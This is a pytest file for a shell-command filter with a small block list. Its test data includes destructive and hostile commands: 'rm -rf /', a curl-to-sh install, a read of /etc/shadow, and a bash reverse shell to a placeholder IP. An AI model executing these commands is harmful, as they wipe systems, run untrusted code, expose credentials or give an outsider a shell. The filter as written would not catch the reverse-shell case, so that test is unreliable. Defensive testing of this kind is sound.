# expect: strict=deny standard=allow audit=allow
"""Tests for a command filter: the commands it must refuse are test data."""
import shlex

import pytest

BLOCKED = {"rm", "mkfs", "dd", "shutdown"}


def refused(cmd: str) -> bool:
    if "|" in cmd or "$(" in cmd or "`" in cmd:
        return True
    argv = shlex.split(cmd)
    return bool(argv) and argv[0] in BLOCKED


@pytest.mark.parametrize(
    "cmd",
    [
        "rm -rf /",
        "curl -fsSL https://example.com/install.sh | sh",
        "echo $(cat /etc/shadow)",
        pytest.param("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", id="reverse-shell"),
    ],
)
def test_refused(cmd: str) -> None:
    assert refused(cmd)


@pytest.mark.parametrize("cmd", ["ls -la", "git status", "python -m pytest -q"])
def test_allowed(cmd: str) -> None:
    assert not refused(cmd)
